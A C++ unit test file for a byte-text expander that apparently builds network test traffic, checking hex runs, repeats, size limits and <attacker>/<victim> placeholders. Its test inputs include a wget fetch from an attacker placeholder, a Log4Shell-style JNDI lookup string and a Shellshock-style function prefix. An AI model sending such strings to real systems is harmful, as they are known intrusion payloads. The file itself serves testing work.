#include "strain/bytes_text.h"

#include <gtest/gtest.h>

namespace cordon::strain {
namespace {

std::string expanded(std::string_view text) {
  Random random(1);
  const auto bytes = expand(text, {"10.0.0.1", "10.0.0.2"}, random);
  return bytes ? std::string(bytes->begin(), bytes->end()) : "error";
}

TEST(BytesText, TextHexRunsAndPlaceholders) {
  EXPECT_EQ(expanded("GET /x?{4e*5} |0d 0a|"), "GET /x?NNNNN \r\n");
  EXPECT_EQ(expanded("wget http://<attacker>/ on <victim>"), "wget http://10.0.0.1/ on 10.0.0.2");
  EXPECT_EQ(expanded("<random:8>").size(), 8u);
}

TEST(BytesText, WhatIsNoFormIsItself) {
  EXPECT_EQ(expanded("${jndi:ldap://x} () { :;}; a|b <s:Envelope>"),
            "${jndi:ldap://x} () { :;}; a|b <s:Envelope>");
}

TEST(BytesText, IsBounded) {
  EXPECT_EQ(expanded("{41*99999999999}"), "{41*99999999999}");
  EXPECT_EQ(expanded("{41*200000}{41*200000}"), "error");
}

}  // namespace
}  // namespace cordon::strain
